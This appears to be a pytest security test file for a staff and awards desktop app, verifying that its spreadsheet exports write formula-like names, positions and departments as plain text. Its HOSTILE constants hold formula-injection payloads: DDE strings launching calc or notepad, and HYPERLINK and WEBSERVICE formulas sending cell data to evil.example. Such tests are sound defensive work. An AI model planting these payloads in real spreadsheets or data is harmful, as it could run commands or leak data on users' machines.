"""Issue 12, point 1 — spreadsheets we write never carry formulas from data.

A name, a position or a department that starts with "=" (or "+", "-", "@", tab, carriage return) is written as a text
cell by every .xlsx writer, through one place (``desktop.documents.xlsx_cells``): the saved XML has an inline or shared
string, never an ``<f>`` element, and the text reads back intact. Numbers stay numbers (totals can still be summed),
and characters an .xlsx cannot hold (control characters already stored) are dropped instead of breaking the export.
Every file is read back twice: with openpyxl and as the raw XML inside the zip.

Crafted inputs (marked ``crafted``): each formula-like text alone through every writer of the one place and through
``tdkt staff export`` (the stored rows unchanged by the export), and hostile data through each document list, the
register and the report.
"""

from __future__ import annotations

import dataclasses
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.cli import main
from desktop.documents import review_docs
from desktop.documents.spreadsheet import Column, write_table
from desktop.documents.xlsx_lists import ListColumn, write_list_xlsx
from desktop.domain.staff import StaffDraft
from desktop.store import staff_repo
from tests.security import assert_no_traceback, cases, crafted, database_hash

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Xem hồ sơ")'
HOSTILE = (
    CALC,
    LINK,
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)
HOSTILE_CASES = {
    "cmd-calc": CALC,
    "hyperlink": LINK,
    "plus-cmd": HOSTILE[2],
    "minus-cmd": HOSTILE[3],
    "at-sum": HOSTILE[4],
    "tab-equals": HOSTILE[5],
    "cr-equals": HOSTILE[6],
    "dde-at-hyperlink": "@HYPERLINK(\"http://evil.example\",\"x\")",
    "plus-one": "+1",
    "minus-two": "-2",
    "equals-sum-range": "=SUM(A1:A9)",
    "webservice": '=WEBSERVICE("http://evil.example/?"&A2)',
    "fullwidth-equals": "\uff1d1+1",  # "＝1+1": Excel does not read it as a formula, kept as typed
}
_FORMULA_XML = re.compile(rb"<(?:\w+:)?f[\s>/]")


def read_back(path: Path) -> tuple[list[str], list[object]]:
    """(every text cell, every other value) of every sheet; fails on any formula in the XML or in openpyxl's view."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert not _FORMULA_XML.search(xml), f"{path.name}:{name} has a formula"
    texts: list[str] = []
    others: list[object] = []
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                elif cell.value is not None:
                    others.append(cell.value)
    return texts, others


def assert_intact(texts: list[str], *expected: str) -> None:
    for value in expected:
        assert any(value in text for text in texts), (value, texts[:40])


def _hostile_people(store) -> list[str]:
    """Staff whose names and positions start with formula characters, stored as data already in the database."""
    codes = []
    with store.transaction(operation="test.setup"):
        for index, value in enumerate(HOSTILE, start=1):
            draft = StaffDraft(
                full_name=f"{value}",
                staff_code=f"CB9{index:04d}",
                birth_date=date(1980, 1, index),
                position=HOSTILE[-index],
                department=LINK if index == 1 else "Phòng Kinh tế",
                notes=CALC,
            )
            staff_repo.insert_staff(store, draft)
            codes.append(draft.staff_code)
    return codes


# -- the one place -----------------------------------------------------------------------------------------------


def test_write_table_keeps_formula_text_as_text_and_numbers_as_numbers(tmp_path):
    target = tmp_path / "bang.xlsx"
    rows = [[value, 1200, 3.5, date(2025, 1, 2)] for value in HOSTILE]
    write_table(
        target,
        columns=[Column("=Tiêu đề"), Column("Số", kind="number"), Column("Tỷ lệ"), Column("Ngày", kind="date")],
        rows=rows,
        title_lines=["=1+1 tiêu đề", CALC],
    )
    texts, others = read_back(target)
    assert_intact(texts, *HOSTILE, "=Tiêu đề", "=1+1 tiêu đề")
    assert others.count(1200) == len(HOSTILE) and others.count(3.5) == len(HOSTILE)
    sheet = load_workbook(target).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == CALC and c.row > 2)
    assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text even after the clerk edits the cell


def test_list_writer_keeps_text_and_sums(tmp_path):
    target = tmp_path / "ds.xlsx"
    write_list_xlsx(
        target,
        title=CALC,
        subtitle=LINK,
        columns=[ListColumn("STT", 6, "int"), ListColumn("Họ và tên", 30), ListColumn("Số tiền", 15, "money")],
        rows=[[i, value, 710_000] for i, value in enumerate(HOSTILE, start=1)],
        totals={"Số tiền": 710_000 * len(HOSTILE)},
    )
    texts, others = read_back(target)
    assert_intact(texts, *HOSTILE)
    assert texts.count(CALC) == 2 and others.count(710_000) == len(HOSTILE)
    assert 710_000 * len(HOSTILE) in others  # the total is a number
    assert list(range(1, len(HOSTILE) + 1)) == [v for v in others if isinstance(v, int) and v < 100]


def test_characters_an_xlsx_cannot_hold_are_dropped_not_fatal(tmp_path):
    target = tmp_path / "ky-tu.xlsx"
    stored = "Nguyễn\x1b[31m Văn\x00 Sơn\x0b\x7f"
    write_table(target, columns=[Column("Họ và tên")], rows=[[stored], ["\ud800Lò Thị Mỷ\uffff"]])
    texts, _others = read_back(target)
    assert "Nguyễn[31m Văn Sơn\x7f" in texts  # DEL is storable; ESC, NUL and VT are not
    assert "Lò Thị Mỷ" in texts


@pytest.mark.parametrize("value", cases(HOSTILE_CASES))
def test_each_formula_text_is_text_in_every_writer_of_the_one_place(value, tmp_path):
    table = tmp_path / "bang.xlsx"
    write_table(table, columns=[Column("Họ và tên"), Column("Số", kind="number")],
                        rows=[[value, 7]], title_lines=[value])  # fmt: skip
    listed = tmp_path / "ds.xlsx"
    write_list_xlsx(listed, title=value, subtitle=value,
                    columns=[ListColumn("Họ và tên", 30), ListColumn("Số tiền", 15, "money")],
                    rows=[[value, 710_000]], totals={"Số tiền": 710_000})  # fmt: skip
    for path in (table, listed):
        texts, others = read_back(path)
        assert texts.count(value) >= 2, (path.name, texts)  # as typed: no prefix added, nothing removed
        assert any(isinstance(v, int) and v in (7, 710_000) for v in others)
        sheet = load_workbook(path).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value == value]
        assert all(c.data_type == "s" for c in cells)
        if value[0] in "=+-@\t\r":
            assert all(c.quotePrefix for c in cells), path.name


@pytest.mark.parametrize("value", cases(HOSTILE_CASES))
def test_each_formula_text_goes_out_of_staff_export_as_text(value, unit_store, db_path, tmp_path, capsys):
    with unit_store.transaction(operation="test.setup"):
        draft = StaffDraft(full_name=value, staff_code="CB90001", position=value, department=value, notes=value)
        staff_repo.insert_staff(unit_store, draft)
    stored = unit_store.query("SELECT full_name, position, notes FROM staff")
    before = database_hash(unit_store, skip=["audit_log"])
    target = tmp_path / "can-bo.xlsx"
    code = main(["--db", str(db_path), "staff", "export", str(target)])
    _out, err = capsys.readouterr()
    assert code == 0, err
    assert_no_traceback(err)
    texts, _others = read_back(target)
    assert stored[0]["full_name"] in texts and stored[0]["position"] in texts and stored[0]["notes"] in texts
    assert database_hash(unit_store, skip=["audit_log"]) == before  # only the export event is logged


# -- every writer ------------------------------------------------------------------------------------------------


@crafted
def test_staff_export_from_the_cli(unit_store, db_path, tmp_path, capsys):
    _hostile_people(unit_store)
    target = tmp_path / "can-bo.xlsx"
    assert main(["--db", str(db_path), "staff", "export", str(target)]) == 0, capsys.readouterr().err
    texts, others = read_back(target)
    assert_intact(texts, *(value.strip() for value in HOSTILE))  # stored names are trimmed
    assert any(isinstance(v, date) for v in others)  # dates stay real dates


@pytest.mark.parametrize("kind", cases({kind: kind for kind in review_docs.LIST_KINDS}))
def test_document_lists(kind, tmp_path):
    from tests.documents import test_review_docs as docs

    def hostile(line, index):
        return dataclasses.replace(
            line, name=HOSTILE[index % len(HOSTILE)], position=LINK, department=CALC, achievement="@" + line.name
        )

    lines = tuple(hostile(line, i) for i, line in enumerate(docs.award_lines()))
    builders = {
        "proposal_list": lambda: dataclasses.replace(docs.proposal_doc(), lines=lines),
        "decision": lambda: dataclasses.replace(docs.decision_doc(), lines=lines),
        "payment": lambda: dataclasses.replace(docs.payment_doc(), lines=lines),
        "register": lambda: dataclasses.replace(
            docs.register_doc(),
            subject_name=CALC,
            entries=tuple(
                dataclasses.replace(e, decision_number_text=HOSTILE[i % len(HOSTILE)], issuer=LINK)
                for i, e in enumerate(docs.register_doc().entries)
            ),
        ),
    }
    target = review_docs.render(kind, builders[kind](), tmp_path / f"{kind}.xlsx")
    texts, others = read_back(target)
    assert_intact(texts, CALC, LINK, HOSTILE[1])
    if kind != "register":
        assert_intact(texts, *HOSTILE)
    if kind != "proposal_list":
        assert any(isinstance(v, int) and v >= 540_000 for v in others)  # money stays numbers


@crafted
def test_register_from_the_cli(db_path, tmp_path, capsys):
    from desktop.ops.demo import fill_demo
    from desktop.store import open_store
    from tests.demo_date import DEMO_TODAY

    store = open_store(db_path)
    fill_demo(store, today=DEMO_TODAY)
    code = store.scalar("SELECT staff_code FROM staff s WHERE EXISTS (SELECT 1 FROM awards a WHERE a.staff_id = s.id)")
    with store.transaction(operation="test.rename"):
        store.execute("UPDATE staff SET full_name = ?, position = ? WHERE staff_code = ?", (CALC, LINK, code))
        store.execute(
            "UPDATE awards SET decision_no = ?, issuer = ? "
            "WHERE staff_id = (SELECT id FROM staff WHERE staff_code = ?)",
            (LINK, "@" + CALC, code),
        )
    store.close()
    target = tmp_path / "so.xlsx"
    command = ["documents", "render", "--kind", "register", "--staff", code, "--out", str(target)]
    result = main(["--db", str(db_path), *command])
    assert result == 0, capsys.readouterr().err
    texts, _others = read_back(target)
    assert_intact(texts, CALC, "@" + CALC)


@crafted
def test_report_from_the_cli(db_path, tmp_path, capsys):
    from desktop.ops.demo import fill_demo
    from desktop.store import open_store
    from tests.demo_date import DEMO_TODAY

    store = open_store(db_path)
    fill_demo(store, today=DEMO_TODAY)
    with store.transaction(operation="test.rename"):
        department = store.scalar(
            "SELECT s.department_id FROM awards a JOIN staff s ON s.id = a.staff_id WHERE a.year = 2024 "
            "AND s.department_id IS NOT NULL LIMIT 1"
        )
        other = store.scalar("SELECT id FROM departments WHERE id != ? LIMIT 1", (department,))
        for name, renamed in ((CALC, department), (LINK, other)):
            # the name it bore in 2024 too: a past year's report names a collective as it was called then
            store.execute("UPDATE departments SET name = ? WHERE id = ?", (name, renamed))
            store.execute("UPDATE department_names SET name = ? WHERE department_id = ?", (name, renamed))
    store.close()
    target = tmp_path / "bao-cao.xlsx"
    assert main(["--db", str(db_path), "report", "--year", "2024", "--out", str(target)]) == 0, capsys.readouterr()
    texts, others = read_back(target)
    assert_intact(texts, CALC)
    assert any(isinstance(v, int) for v in others)  # counts stay numbers: the bar charts read them
